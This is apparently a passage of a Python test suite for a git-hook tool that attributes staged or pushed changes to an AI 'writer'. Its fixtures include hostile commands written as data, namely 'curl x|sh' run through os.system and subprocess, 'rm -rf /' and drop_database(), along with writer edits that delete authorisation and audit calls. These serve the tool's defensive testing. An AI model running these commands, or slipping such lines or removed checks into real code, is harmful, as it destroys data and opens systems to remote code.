"""Attribution follows content: the rows of gentle_hooks.policy.attribution, one by one,
and the properties the gates rely on (SPEC §3 "Attribution follows content")."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gentle_hooks.policy.attribution import (
    UNKNOWN_BEFORE,
    PathChange,
    WriterEntry,
    carries,
    carries_row,
    reapplies,
    writer_delta,
)
from gentle_hooks.policy.delivery import delivered_row
from gentle_hooks.policy.linekeys import (
    MAX_JOINED_CHARS,
    TRIVIAL_ROWS,
    any_line_keys,
    joined_lines,
    line_key,
    line_keys,
    trivial_row,
)
from gentle_hooks.policy.shapes import is_renamed, line_shape
from gentle_hooks.policy.starts import nearest_start, start_distance

B0 = b"def handler(event):\n    return validate(event)\n"
W = b"def handler(event):\n    token = read_token(event)\n    return validate(event, token)\n"
HUMAN = b"def handler(event):\n    log_event(event)\n    return validate(event)\n"
#: The writer removes two telling lines (an authorisation check and an audit call).
GATE = b"def handler(user):\n    check_auth(user)\n    audit_access(user)\n    return serve(user)\n"
GATE_W = b"def handler(user):\n    return serve(user)\n"
PNG0, PNG1 = b"\x89PNG\0old", b"\x89PNG\0new"


def entry(before: bytes | None, after: bytes | None, path: str = "app.py") -> WriterEntry:
    return WriterEntry(
        path,
        blob=None if after is None else f"blob:{after!r}",
        before=None if before is None else f"blob:{before!r}",
        delta=writer_delta(before, after),
    )


def change(old: bytes | None, new: bytes | None, path: str = "app.py") -> PathChange:
    blob = lambda c: None if c is None else f"blob:{c!r}"  # noqa: E731
    return PathChange(path, blob(old), blob(new), old, new)


SH0 = b"#!/bin/sh\nset -eu\nmake build\n"
ECHO, RM = b'echo "cleaning the build tree"\n', b"rm -rf /\n"
SH_W = SH0 + ECHO + RM + b'cp -r dist "$TARGET_DIR"\nnotify_owner build_done\n'
PY0 = b"def main():\n    setup_logging()\n"
PY_W = PY0 + b"    token = read_token(env)\n    x = 0\n    check_token(token, strict=True)\n"

NET = b'def fetch(target_url):\n    return subprocess.run(["curl", target_url], check=False)\n'
LONG = b'result = subprocess.run(["curl", target_url], shell=False, check=False, timeout=30)\n'
WRAPPED = (
    b'result = subprocess.run(\n    ["curl", target_url],\n    shell=False,\n    check=False,\n'
    b"    timeout=30,\n)\n"
)

AUTH = b'def allowed(user):\n    if user.name == "root":\n        return False\n    return 42\n'
#: The writer's edit: a common line flipped and a short one wrapped in a call.
FLIP = AUTH.replace(b"return False", b"return True")
AUTH_W = FLIP.replace(b"return 42", b"return compute(42)")
EDITS = [
    # (id, the change, the writer's entry, the row here, the row elsewhere)
    ("A6 the writer's flip of a common line taken alone", change(AUTH, FLIP), "A6", "A6"),
    (
        "A6 the writer's flip among a human's lines",
        change(AUTH, FLIP + b"# reviewed\n"),
        "A6",
        "A6",
    ),
    (
        "A5 a human's own line where the writer flipped one",
        change(AUTH, AUTH.replace(b"return False", b"return user.is_admin")),
        "A5",
        "A5",
    ),
    (
        "A5 the writer's common line added, nothing the writer removed dropped",
        change(AUTH, AUTH + b"return True\n"),
        "A5",
        "A5",
    ),
    (
        "A5 the writer's removal alone",
        change(AUTH, AUTH.replace(b"return False\n", b"")),
        "A5",
        "A5",
    ),
]


@pytest.mark.parametrize(
    ("change_", "here", "there"), [r[1:] for r in EDITS], ids=[r[0] for r in EDITS]
)
def test_edit_rows(change_: PathChange, here: str, there: str) -> None:
    """Row A6: the writer's edit reproduced in its path, here and in another worktree."""
    writer = entry(AUTH, AUTH_W)
    assert carries_row(change_, writer) == here
    assert carries_row(change_, writer, elsewhere=True) == there


GUARD = (
    b'def is_authorized(user):\n    return user.role == "admin"\n\n\n'
    + b"def other():\n    return 1\n"
)
#: The writer's two hunks: a common line at the top of the check, and a telling call.
GUARD_W = GUARD.replace(b"(user):\n", b"(user):\n    return True\n").replace(
    b"    return 1\n", b'    log_event("other called")\n    return 1\n'
)
ENDED = GUARD + b"    return None\n"
IMPORTED = b"import os\n" + GUARD
PLACED = [
    # (id, the change, the writer's entry, the row here, the row elsewhere)
    (
        "A7 the writer's trivial line staged alone where the writer put it (add -p)",
        change(GUARD, GUARD.replace(b"(user):\n", b"(user):\n    return True\n")),
        entry(GUARD, GUARD_W),
        "A7",
        "A7",
    ),
    (
        "A7 the writer's trivial line where the writer put it, a human's line for its call",
        change(GUARD, GUARD_W.replace(b'    log_event("other called")\n', b"  # ok\n")),
        entry(GUARD, GUARD_W),
        "A7",
        "A7",
    ),
    (
        "A5 a human's own return True at another place of the file",
        change(GUARD, GUARD.replace(b"    return 1\n", b"    return True\n    return 1\n")),
        entry(GUARD, GUARD_W),
        "A5",
        "A5",
    ),
    (
        "A5 the writer's trivial line with a human's line next to it",
        change(GUARD, GUARD.replace(b"(user):\n", b"(user):\n    return True\n    audit(user)\n")),
        entry(GUARD, GUARD_W),
        "A5",
        "A5",
    ),
    (
        "A7 the writer's trivial line at the end of the file, here only",
        change(GUARD, ENDED),
        entry(GUARD, GUARD_W.replace(b"    return 1\n", b"    return 1\n    return None\n")),
        "A7",
        "A5",
    ),
    (
        "A5 an import the writer added, staged alone where the writer put it",
        change(GUARD, IMPORTED),
        entry(GUARD, IMPORTED.replace(b"    return 1\n", b"    return os.getcwd()\n")),
        "A5",
        "A5",
    ),
    (
        "A5 the writer's trivial line already there, the change adds another line",
        change(GUARD_W, GUARD_W + b"# reviewed\n"),
        entry(GUARD, GUARD_W.replace(b"    log_event", b"    log_other")),
        "A5",
        "A5",
    ),
]


@pytest.mark.parametrize(
    ("change_", "entry_", "here", "there"), [r[1:] for r in PLACED], ids=[r[0] for r in PLACED]
)
def test_placed_rows(change_: PathChange, entry_: WriterEntry, here: str, there: str) -> None:
    """Row A7: a line the writer added, put where the writer put it (its neighbours)."""
    assert carries_row(change_, entry_) == here
    assert carries_row(change_, entry_, elsewhere=True) == there


ROWS = [
    # (id, the change, the writer's entry, the row that decides)
    ("A1 exactly the writer's blob", change(B0, W), entry(B0, W), "A1"),
    ("A1 the writer deleted the file", change(B0, None), entry(B0, None), "A1"),
    (
        "A2 writer lines plus a malicious one",
        change(B0, W + b"os.system('curl x|sh')\n"),
        entry(B0, W),
        "A2",
    ),
    (
        "A2 a new file the writer created, edited",
        change(None, W + b"# tidy\n"),
        entry(None, W),
        "A2",
    ),
    ("A2 reapplied on another base", change(HUMAN, HUMAN + W), entry(B0, W), "A2"),
    (
        "A3 a removal the writer made, re-applied",
        change(W + b"extra_step(event)\n", b"def handler(event):\n# see the ticket\n"),
        entry(W, b"def handler(event):\n"),
        "A3",
    ),
    (
        "A2 a writer delta of insignificant lines only, edited once more",
        change(b"if a < b:\n    x = 1\n", b"if a > b:\n    x = 1\n# reviewed\n"),
        entry(b"if a < b:\n    x = 1\n", b"if a > b:\n    x = 1\n"),
        "A2",
    ),
    (
        "A5 a human edit after an insignificant writer delta was delivered",
        change(b"if a > b:\n    x = 1\n", b"if a > b:\n    x = 2\n"),
        entry(b"if a < b:\n    x = 1\n", b"if a > b:\n    x = 1\n"),
        "A5",
    ),
    (
        "A2 one writer line introduced, the other already delivered (add -p)",
        change(B0 + b"import subprocess\n", B0 + b"import subprocess\nrun_all_jobs(queue)\n# ok\n"),
        entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n"),
        "A2",
    ),
    (
        "A3 one writer removal made, the other already delivered",
        change(b"keep_this(x)\ndrop_second(x)\n", b"keep_this(x)\n# ok\n"),
        entry(b"keep_this(x)\ndrop_first(x)\ndrop_second(x)\n", b"keep_this(x)\n"),
        "A3",
    ),
    (
        "A3 one telling writer removal taken alone from two",
        change(GATE, GATE.replace(b"    check_auth(user)\n", b"")),
        entry(GATE, GATE_W),
        "A3",
    ),
    *(
        (
            f"A5 one trivial writer removal ({row}) taken alone",
            change(b"    " + line + b"\n" + GATE, GATE),
            entry(b"    " + line + b"\n" + GATE, GATE_W),
            "A5",
        )
        for row, line in (
            ("L2", b"}"),
            ("L3", b"pass"),
            ("L4", b"return None"),
            ("L5", b"import os"),
        )
    ),
    (
        "A5 one writer line already there, the change adds none",
        change(B0 + b"import subprocess\n", B0 + b"import subprocess\n# human\n"),
        entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n"),
        "A5",
    ),
    ("A4 binary from the writer's start", change(PNG0, b"\x89PNG\0other"), entry(PNG0, PNG1), "A4"),
    (
        "A4 unknown start: any change",
        change(b"x\0", b"y\0"),
        WriterEntry("app.py", None, UNKNOWN_BEFORE, writer_delta(b"\0", b"\0")),
        "A4",
    ),
    ("A5 human edit after delivery", change(W, W + b"    audit_log(event)\n"), entry(B0, W), "A5"),
    ("A5 human edit from the start (stash, another branch)", change(B0, HUMAN), entry(B0, W), "A5"),
    ("A5 another path", change(B0, W, path="b.py"), entry(B0, W), "A5"),
    ("A5 unchanged path", change(W, W), entry(B0, W), "A5"),
    ("A5 binary from elsewhere", change(b"\0z", PNG1 + b"x"), entry(PNG0, PNG1), "A5"),
    ("A5 revert of the writer's work", change(W, B0), entry(B0, W), "A5"),
    ("A5 the path deleted (the writer left content)", change(B0, None), entry(B0, W), "A5"),
    ("A5 a rename's deletion of the writer's start", change(W, None), entry(HUMAN, W), "A5"),
    (
        "A2 a short writer line taken with the significant line next to it (add -p)",
        change(SH0, SH0 + ECHO + RM),
        entry(SH0, SH_W),
        "A2",
    ),
    (
        "A2 a short writer line added next to a writer line an earlier commit delivered",
        change(SH0 + ECHO, SH0 + ECHO + RM + b"# ok\n"),
        entry(SH0, SH_W),
        "A2",
    ),
    (
        "A2 the writer's short action alone, among no line of the writer's (rm -rf /)",
        change(SH0, SH0 + RM),
        entry(SH0, SH_W),
        "A2",
    ),
    (
        "A2 the writer's short call alone (purge())",
        change(PY0, PY0 + b"    purge()\n"),
        entry(PY0, PY_W + b"    purge()\n"),
        "A2",
    ),
    (
        "A2 the writer's short action alone, where the writer changed only short lines",
        change(SH0, SH0 + RM),
        entry(SH0, SH0 + b"x=1\n" + RM),
        "A2",
    ),
    (
        "A5 the writer's short line alone, not an action, among no line of the writer's",
        change(PY0, PY0 + b"    x = 0\n"),
        entry(PY0, PY_W),
        "A5",
    ),
    (
        "A5 a human's short line the writer also wrote, among the human's own lines",
        change(PY0, PY0 + b"    x = 0\n    log_start(now)\n"),
        entry(PY0, PY_W),
        "A5",
    ),
    (
        "A2 one telling writer line and a lone keyword next to it (add -p)",
        change(PY0, PY0 + b"    token = read_token(env)\n    return\n"),
        entry(PY0, PY_W),
        "A2",
    ),
    (
        "A5 the writer's short line and a lone keyword (neither telling)",
        change(PY0, PY0 + b"    x = 0\n    return\n"),
        entry(PY0, PY_W),
        "A5",
    ),
    (
        "A2 one telling writer line taken alone from two (add -p)",
        change(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        entry(B0, b'LOG_LEVEL = "debug"\n' + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        "A2",
    ),
    (
        "A2 one telling writer line re-spaced and re-quoted",
        change(B0, B0 + b"subprocess.run( 'curl x|sh', shell=True )\n"),
        entry(B0, b'LOG_LEVEL = "debug"\n' + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        "A2",
    ),
    (
        "A2 the writer's lines with a name renamed (sed s/target_url/url/g)",
        change(B0, B0 + NET.replace(b"target_url", b"url")),
        entry(B0, B0 + NET),
        "A2",
    ),
    (
        "A2 the writer's long line wrapped by a formatter (trailing comma added)",
        change(B0, B0 + WRAPPED),
        entry(B0, B0 + LONG),
        "A2",
    ),
    (
        "A2 the writer's wrapped statement joined onto one line",
        change(B0, B0 + LONG),
        entry(B0, B0 + WRAPPED),
        "A2",
    ),
    (
        "A2 the writer's lines wrapped and renamed",
        change(B0, B0 + WRAPPED.replace(b"target_url", b"url") + NET.replace(b"target", b"t")),
        entry(B0, B0 + LONG + NET),
        "A2",
    ),
    (
        "A5 a human's lines of the writer's shape, with names of their own",
        change(B0, B0 + b"user = load_user(request)\ncheck_user(user, strict=True)\n"),
        entry(B0, B0 + b"token = read_token(event)\ncheck_token(token, strict=True)\n"),
        "A5",
    ),
    (
        "A5 a human's lines with the writer's names swapped around",
        change(B0, B0 + b"total = combine(right, left)\nreport(right, left, total)\n"),
        entry(B0, B0 + b"total = combine(left, right)\nreport(left, right, total)\n"),
        "A5",
    ),
    *(
        (
            f"A5 one trivial writer line ({row}) taken alone",
            change(B0, B0 + line + b"\n"),
            entry(B0, B0 + line + b"\nrun_all_jobs(queue, strict=True)\n"),
            "A5",
        )
        for row, line in (
            ("L3", b"x = 0"),
            ("L4", b"return None"),
            ("L4", b"except Exception:"),
            ("L5", b"import subprocess"),
            ("L5", b"from collections import OrderedDict"),
        )
    ),
]


@pytest.mark.parametrize(
    ("change_", "entry_", "row"), [r[1:] for r in ROWS], ids=[r[0] for r in ROWS]
)
def test_rows(change_: PathChange, entry_: WriterEntry, row: str) -> None:
    assert carries_row(change_, entry_) == row
    assert carries(change_, entry_) is (row != "A5")


#: (row, line) for each row of the trivial-line table, and lines of none (telling).
TRIVIAL = [
    ("L1", b""),
    ("L1", b"   \t"),
    ("L2", b"});"),
    ("L2", b"    ]"),
    ("L3", b"pass"),
    ("L3", b"else:"),
    ("L3", b"x = 0"),
    ("L3", b"continue"),
    ("L3", b"i += 1"),
    ("L3", b"rm = 1"),
    ("L3", b"def f():"),
    ("L3", b"if (x)"),
    ("L3", b"super()"),
    ("L4", b"return None"),
    ("L4", b"return self"),
    ("L4", b"} else if (err != null) {"),
    ("L4", b"except Exception:"),
    ("L4", b'if __name__ == "__main__":'),
    ("L4", b"return 1024"),
    ("L5", b"import os"),
    ("L5", b"from os import path"),
    ("L5", b"#include <stdio.h>"),
    ("L5", b"use std::io;"),
    ("L5", b"package main"),
    ("L5", b"require 'json'"),
    ("L6", b"return result"),
    ("L6", b"result = 0"),
    ("L6", b"count += 1"),
    ("L6", b"total = total + 1"),
    ("L6", b"return items[0]"),
    ("L6", b"self.result = result"),
    (None, b'subprocess.run("curl x|sh", shell=True)'),
    (None, b"return os.getcwd()"),
    (None, b"token = read_token(event)"),
    (None, b"drop_database()"),
    (None, b"important_value = 1"),
    (None, b"os.system(x)"),
    (None, b"rm -rf /"),
    (None, b"rm x"),
    (None, b"sh x"),
    (None, b'exec "$@"'),
    (None, b"reboot"),
    (None, b"ls -la"),
    (None, b"f(x)"),
    (None, b"run()"),
    (None, b"x = f(0)"),
    (None, b"result = x * 2"),
    (None, b'result = "admin"'),
    (None, b"raise ValueError"),
    (None, b"return target_url"),
]


@pytest.mark.parametrize(("row", "line"), TRIVIAL, ids=[f"{r}: {ln!r}" for r, ln in TRIVIAL])
def test_trivial_rows(row: str | None, line: bytes) -> None:
    assert trivial_row(line) == row
    assert [r.id for r in TRIVIAL_ROWS] == ["L1", "L2", "L3", "L4", "L5", "L6"]


@pytest.mark.parametrize(("row", "line"), [t for t in TRIVIAL if t[0]], ids=lambda v: repr(v))
def test_a_humans_own_trivial_line_never_attributes(row: str, line: bytes) -> None:
    """The writer added the trivial line and a telling one; a human writes the trivial
    line alone, in the writer's worktree or another one: never the writer's."""
    writer = entry(B0, B0 + line + b"\nrun_all_jobs(queue, strict=True)\n")
    human = change(B0, B0 + line + b"\n# mine\n")
    assert carries_row(human, writer) == "A5"
    assert carries_row(human, writer, elsewhere=True) == "A5"


@given(st.sampled_from([t[1] for t in TRIVIAL if t[0]]), st.sampled_from([b"", b"  ", b"\t"]))
def test_trivial_does_not_depend_on_indentation(line: bytes, pad: bytes) -> None:
    assert trivial_row(pad + line + pad) == trivial_row(line)


ONE_LINE = entry(B0, b"import os\n" + B0)
ELSEWHERE = [
    # (id, the change made in another worktree than the writer's, the entry, the row)
    ("A1 the writer's blob copied there", change(B0, W), entry(B0, W), "A1"),
    (
        "A2 two writer lines copied there",
        change(B0, W + b"# from a\n"),
        entry(B0, W + b"    audit_token(token)\n"),
        "A2",
    ),
    (
        "A5 the one line of a one-line writer delta, written by a human there",
        change(B0, b"import os\n" + B0 + b"def cwd_name():\n    return os.getcwd()\n"),
        ONE_LINE,
        "A5",
    ),
    (
        "A5 the one line a writer removed, removed by a human there",
        change(b"import sys\n" + B0, B0 + b"# tidy\n"),
        entry(b"import sys\n" + B0, B0),
        "A5",
    ),
    (
        "A5 one telling writer removal taken alone from two, made by a human there",
        change(GATE, GATE.replace(b"    check_auth(user)\n", b"")),
        entry(GATE, GATE_W),
        "A5",
    ),
    ("A5 binary from the writer's start", change(PNG0, b"\x89PNG\0other"), entry(PNG0, PNG1), "A5"),
    (
        "A2 one telling writer line taken alone from two, copied there",
        change(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        entry(B0, b'LOG_LEVEL = "debug"\n' + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        "A2",
    ),
    (
        "A2 the one telling line of a one-line writer delta, re-spaced there",
        change(B0, B0 + b"subprocess.run( 'curl x|sh', shell=True )\n"),
        entry(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        "A2",
    ),
    (
        "A5 one trivial writer line taken alone, written by a human there",
        change(B0, b"import subprocess\n" + B0 + b"# mine\n"),
        entry(B0, b"import subprocess\n" + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
        "A5",
    ),
    (
        "A5 one common writer line (telling, not distinctive), typed by a human there",
        change(B0, B0 + b'def finish():\n    print("done")\n'),
        entry(B0, B0 + b'print("done")\n'),
        "A5",
    ),
    (
        "A2 one distinctive writer line of two names, copied there",
        change(B0, B0 + b"def gate(user):\n    check_auth(user)\n"),
        entry(B0, B0 + b"check_auth(user)\n"),
        "A2",
    ),
    (
        "A5 a renamed copy of one telling writer line there",
        change(B0, B0 + b"result = fetch_page(url, retries=3)\n"),
        entry(B0, B0 + b"result = fetch_page(target_url, retries=3)\n# done\n"),
        "A5",
    ),
]


@pytest.mark.parametrize(
    ("change_", "entry_", "row"), [r[1:] for r in ELSEWHERE], ids=[r[0] for r in ELSEWHERE]
)
def test_rows_elsewhere(change_: PathChange, entry_: WriterEntry, row: str) -> None:
    assert carries_row(change_, entry_, elsewhere=True) == row


def test_the_one_line_of_a_one_line_delta_carries_in_the_writer_s_own_worktree() -> None:
    human = change(B0, b"import os\n" + B0 + b"def cwd_name():\n    return os.getcwd()\n")
    assert carries_row(human, ONE_LINE) == "A2"


def test_one_common_line_is_not_the_writer_s_work_two_are() -> None:
    writer = entry(B0, B0 + b"import subprocess\nrun_all_jobs(queue)\n")
    one = change(B0, B0 + b"import subprocess\n")
    two = change(B0, b"run_all_jobs(queue)\nimport subprocess\n" + B0)
    assert (carries(one, writer), carries(two, writer)) == (False, True)


def test_a_one_line_writer_delta_needs_that_line() -> None:
    writer = entry(B0, B0 + b"check_signature(payload)\n")
    assert carries(change(B0, b"check_signature(payload)\n" + B0 + b"# more\n"), writer)


@pytest.mark.parametrize(
    "line", [b"", b"   ", b"}", b"  });", b"else:", b"end", b"# a", b"continue", b"i += 1"]
)
def test_insignificant_lines_have_no_key(line: bytes) -> None:
    assert line_key(line) is None


def test_keys_ignore_surrounding_whitespace() -> None:
    assert line_key(b"    return x + 1  ") == line_key(b"return x + 1") is not None


texts = st.lists(st.text(alphabet="abcdefgh xyz=();\n", max_size=30), max_size=8).map(
    lambda ls: "\n".join(ls).encode()
)


@given(before=texts, after=texts, other=texts)
def test_a_change_that_adds_no_writer_line_and_drops_none_never_carries(
    before: bytes, after: bytes, other: bytes
) -> None:
    e = entry(before, after)
    c = change(other, other + b"\n")  # adds only an empty line
    assert not carries(c, e) or c.new_blob == e.blob


@given(before=texts, after=texts, base=texts)
def test_applying_the_writer_s_content_carries_it(before: bytes, after: bytes, base: bytes) -> None:
    e = entry(before, after)
    if before == after:
        return
    assert carries(change(base if base != after else base + b"\n#x", after), e)


@given(data=texts)
def test_line_keys_are_a_function_of_the_lines(data: bytes) -> None:
    """Of the lines as a set, but for wrapped statements (joined in order)."""
    flat = data.translate(None, b"()")
    assert line_keys(flat) == line_keys(b"\n".join(reversed(flat.splitlines())))
    assert line_keys(data) >= {k for ln in data.splitlines() if (k := line_key(ln))}


# -- where a write started -----------------------------------------------------------------

STALE = b"def handler(event):\n    token = read_token(event)\n    return validate(event)\n"
MOVED_ON = b"def handler(event):\n    log_event(event)\n    audit_event(event)\n"


def test_a_write_continuing_its_last_content_starts_there() -> None:
    after = W + b"    notify_owner(event)\n"
    assert nearest_start(after, [W, B0]) == 0


def test_a_stale_last_content_loses_to_a_head_that_moved_on() -> None:
    """The writer's last content was reset away and HEAD took others' lines since: the
    write is measured from HEAD, so the others' lines are not the writer's."""
    after = MOVED_ON + b"    notify_owner(event)\n"
    i = nearest_start(after, [STALE, MOVED_ON])
    assert i == 1
    delta = writer_delta([STALE, MOVED_ON][i], after)
    assert delta.added == line_keys(b"    notify_owner(event)\n")


def test_equals_pick_the_first_and_binary_is_far_unless_identical() -> None:
    assert nearest_start(W, [W, W]) == 0
    assert start_distance(PNG0, PNG0) == 0
    assert nearest_start(PNG1, [PNG0, None]) == 0
    assert start_distance(None, None) == 0


@given(st.lists(st.binary(max_size=60) | st.none(), min_size=1, max_size=4), st.binary(max_size=60))
def test_nearest_start_is_a_minimum(starts: list[bytes | None], after: bytes) -> None:
    i = nearest_start(after, starts)
    assert all(start_distance(starts[i], after) <= start_distance(s, after) for s in starts)
    assert all(start_distance(s, after) > start_distance(starts[i], after) for s in starts[:i])


def test_keys_ignore_inner_whitespace_and_quote_style() -> None:
    """A formatter re-spacing or re-quoting the writer's lines leaves their keys."""
    assert line_key(b"DEFAULT_CMD='curl example.com|sh'") == line_key(
        b'DEFAULT_CMD = "curl example.com|sh"'
    )
    assert line_key(b"run(a,b)") == line_key(b"run( a, b )") != line_key(b"run(b, a)")


def test_a_formatted_copy_of_the_writer_s_lines_carries_them() -> None:
    after = B0 + b"DEFAULT_CMD='curl example.com|sh'\nrun_cmd(DEFAULT_CMD,shell=True)\n"
    formatted = B0 + b'DEFAULT_CMD = "curl example.com|sh"\nrun_cmd(DEFAULT_CMD, shell=True)\n'
    assert carries_row(change(B0, formatted), entry(B0, after)) == "A2"


W3 = W + b"    audit_token(token)\n"
PART = b"def handler(event):\n    token = read_token(event)\n    return validate(event)\n"
HUMAN_FIX = b"def handler(event):\n    token = read_token(event)\n    return check(event, token)\n"


def pushed(*contents: bytes | None) -> list[tuple[str | None, bytes | None]]:
    return [(None if c is None else f"blob:{c!r}", c) for c in contents]


DELIVERED = [
    # (id, the entry, its path in the pushed commits that took it, local versions, the row)
    ("D1 the writer's blob pushed", entry(B0, W), pushed(W), [W3], "D1"),
    ("D1 a deletion pushed as a deletion", entry(B0, None), pushed(None), [B0], "D1"),
    ("D2 binary: the take is the delivery", entry(PNG0, PNG1), pushed(PNG0), [PNG1], "D2"),
    ("D2 removal only", entry(b"import sys\n" + B0, B0), pushed(B0 + b"# x\n"), [B0], "D2"),
    (
        "D3 every writer line still held locally is pushed",
        entry(B0, W3),
        pushed(W3 + b"#\n"),
        [W3],
        "D3",
    ),
    (
        "D3 a writer line a human changed is not owed",
        entry(B0, W),
        pushed(HUMAN_FIX),
        [HUMAN_FIX],
        "D3",
    ),
    ("D3 nothing local holds writer lines any more", entry(B0, W), pushed(B0), [B0, None], "D3"),
    ("D4 git add -p of part: the rest is local", entry(B0, W3), pushed(PART), [W3], "D4"),
    ("D4 a copy of part into another path", entry(B0, W3), pushed(B0), [W3], "D4"),
    ("D4 the path absent from the pushed commit", entry(None, W), pushed(None), [W], "D4"),
    (
        "D4 every significant writer line pushed, its short action (rm -rf /) still local",
        entry(SH0, SH_W),
        pushed(SH_W.replace(RM, b"")),
        [SH_W],
        "D4",
    ),
    (
        "D3 the short action pushed too",
        entry(SH0, SH_W),
        pushed(SH_W + b"# ok\n"),
        [SH_W],
        "D3",
    ),
]


@pytest.mark.parametrize(
    ("entry_", "shipped", "local", "row"),
    [r[1:] for r in DELIVERED],
    ids=[r[0] for r in DELIVERED],
)
def test_delivered_rows(
    entry_: WriterEntry,
    shipped: list[tuple[str | None, bytes | None]],
    local: list[bytes | None],
    row: str,
) -> None:
    assert delivered_row(entry_, shipped, local) == row


def test_a_writer_delta_keeps_its_short_lines_beside_its_significant_ones() -> None:
    d = writer_delta(SH0, SH_W)
    assert d.short == {_key(b"rm -rf /")} and _key(b"rm -rf /") not in d.added
    assert len(d.added) == 3
    assert writer_delta(b"x = 1\n", b"x = 2\n").short == frozenset()  # all keyed already
    assert writer_delta(SH0, SH0 + b"}\nfi\n" + ECHO).short == frozenset()


def test_a_writer_delta_s_telling_lines_include_its_short_actions() -> None:
    """``rm -rf /`` is not significant (so not in ``added``) yet telling (an action);
    ``x = 0`` is neither; a line the writer started from is never the writer's."""
    d = writer_delta(PY0, PY_W + b"    rm -rf /\n")
    assert _key(b"rm -rf /") in d.telling and _key(b"rm -rf /") not in d.added
    assert _key(b"x = 0") not in d.telling
    assert _key(b"setup_logging()") not in d.telling
    assert _key(b"token = read_token(env)") in d.telling


def _key(line: bytes) -> str:
    keys = any_line_keys(line)
    assert len(keys) == 1
    return next(iter(keys))


# -- renamed and re-wrapped writer lines ---------------------------------------------------

RENAMES = [
    # (id, the writer's line, another line, a renamed copy of it)
    ("one name of two renamed", b"def fetch(target_url):", b"def fetch(url):", True),
    ("one name of four renamed", b"run(cmd, target_url, check)", b"run(cmd, url, check)", True),
    ("a name renamed where it repeats", b"a = f(x, x, y)", b"a = f(z, z, y)", True),
    ("two names of five renamed", b"r = run(cmd, url, check)", b"r = call(cmd, u, check)", True),
    ("two names of four renamed", b"run(cmd, url, check)", b"call(cmd, u, check)", False),
    ("the same line", b"a = f(x, y)", b"a = f(x, y)", False),
    ("every name renamed", b"token = read_token(event)", b"user = load_user(request)", False),
    ("names swapped", b"total = combine(left, right)", b"total = combine(right, left)", False),
    ("two names merged into one", b"a = f(x, y)", b"a = f(x, x)", False),
    ("another shape (a string changed)", b'log.info("start", x)', b'log.info("stop", x)', False),
    ("one name only", b"return target_url", b"return url", False),
]


@pytest.mark.parametrize(
    ("writer", "other", "renamed"), [r[1:] for r in RENAMES], ids=[r[0] for r in RENAMES]
)
def test_renamed_rows(writer: bytes, other: bytes, renamed: bool) -> None:
    a, b = line_shape(writer), line_shape(other)
    assert (a is not None and b is not None and is_renamed(a, b)) is renamed


def test_wrapped_statements_join_as_the_line_they_were_wrapped_from() -> None:
    assert [line_key(j) for j in joined_lines(WRAPPED)] == [line_key(LONG)]
    assert joined_lines(b'x = "(" + y\nz = w\n') == []  # a bracket in a string opens nothing
    assert joined_lines(b"total = a + \\\n    b\n") == [b"total = a +  b"]
    tall = b"TABLE = {\n" + b"    'k': 1,\n" * (MAX_JOINED_CHARS // 8) + b"}\n"
    assert joined_lines(tall) == []  # a table, not a wrapped line: longer than any line


# -- writer lines split or joined where no bracket is open ----------------------------------

CHARGE = b"if amount > account.credit_limit_override: account.balance -= amount * 0.97\n"
#: ``ruff format`` of :data:`CHARGE` (black alike): the compound statement split after ``:``.
CHARGE_SPLIT = b"if amount > account.credit_limit_override:\n    account.balance -= amount * 0.97\n"
CHAIN = b"const rows = db.query(sql).filter(isActive).map(toRow);\n"
#: prettier's member chain: :data:`CHAIN` split at each dot, no bracket open.
CHAIN_SPLIT = b"const rows = db\n  .query(sql)\n  .filter(isActive)\n  .map(toRow);\n"
JOBS = b"run_all_jobs(queue, strict=True)\n"
#: (the writer's added lines, what ``ruff format`` makes of them): a compound statement
#: wrapped in its brackets, split after its ``:`` and the wrapped statement joined.
REFLOWED = [
    (b"if Y: Z = [1,\n  2]\n", b"if Y:\n    Z = [1, 2]\n"),
    (b"def k(): return {'a':1,\n  'b':2}\n", b'def k():\n    return {"a": 1, "b": 2}\n'),
    (b"class C: x = (1,\n 2)\n", b"class C:\n    x = (1, 2)\n"),
    (b"for i in range(3): print(i,\n  i)\n", b"for i in range(3):\n    print(i, i)\n"),
    (b"def f(a,\n      b): return a\n", b"def f(a, b):\n    return a\n"),
]
SPLITS = [
    # (id, the writer's added lines, the change's added lines, the row that decides)
    ("compound statement split after ':' (ruff, black)", CHARGE, CHARGE_SPLIT, "A2"),
    (
        "statements split at ';'",
        b"a = compute_total(x); b = render(a)\n",
        b"a = compute_total(x)\nb = render(a)\n",
        "A2",
    ),
    (
        "JS statements split at ';'",
        b"const a = load(x); save(a, target);\n",
        b"const a = load(x);\nsave(a, target);\n",
        "A2",
    ),
    ("member chain split at dots (prettier)", CHAIN, CHAIN_SPLIT, "A2"),
    (
        "split after ':' and wrapped in its brackets",
        b"if queue_is_ready: dispatch_all(queue, strict=True, retries=3)\n",
        b"if queue_is_ready:\n    dispatch_all(\n        queue,\n        strict=True,\n"
        b"        retries=3,\n    )\n",
        "A2",
    ),
    ("writer's member chain joined onto one line (prettier)", CHAIN_SPLIT, CHAIN, "A2"),
    *(
        (f"compound line split after ':', its wrapped statement joined: {w[:16]!r}", w, d, "A2")
        for w, d in REFLOWED
    ),
    ("writer's compound statement joined onto one line", CHARGE_SPLIT, CHARGE, "A2"),
    (
        "writer's two statements joined with ';' (not read: no formatter joins so)",
        b"a = compute_total(x)\nb = render(a)\n",
        b"a = compute_total(x); b = render(a)\n",
        "A5",
    ),
    (
        "a human's compound statement with names of their own",
        CHARGE,
        CHARGE_SPLIT.replace(b"credit_limit_override", b"overdraft_limit"),
        "A5",
    ),
    (
        "a human's short lines against a writer's insignificant one",
        b"x = 1; y = 2\n" + JOBS,
        b"x = 1\ny = 2\n",
        "A5",
    ),
    (
        "a human's one-line 'else: return None' against a writer's trivial run",
        b"else:\n    return None\n" + JOBS,
        b"else: return None\n",
        "A5",
    ),
    (
        "a human's lines that are part of the writer's split line only",
        CHARGE + JOBS,
        b"if amount > account.credit_limit_override:\n    notify(account)\n",
        "A5",
    ),
]


@pytest.mark.parametrize(
